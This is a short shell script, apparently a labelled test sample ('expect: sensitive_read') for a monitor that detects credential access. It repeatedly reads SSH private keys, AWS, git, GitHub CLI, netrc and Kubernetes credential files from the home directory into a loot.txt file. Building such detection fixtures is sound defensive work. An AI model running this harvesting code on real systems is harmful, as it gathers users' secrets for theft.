#!/bin/sh
# expect: sensitive_read
# Credential hunting in the home directory: keys, cloud credentials, tokens.
for round in $(seq 1 50); do
  for f in "$HOME/.ssh/id_rsa" "$HOME/.ssh/id_ed25519" "$HOME/.aws/credentials" "$HOME/.git-credentials" \
           "$HOME/.config/gh/hosts.yml" "$HOME/.netrc" "$HOME/.kube/config"; do
    cat "$f" >> loot.txt 2>/dev/null
  done
  sleep 0.1
done
touch finished
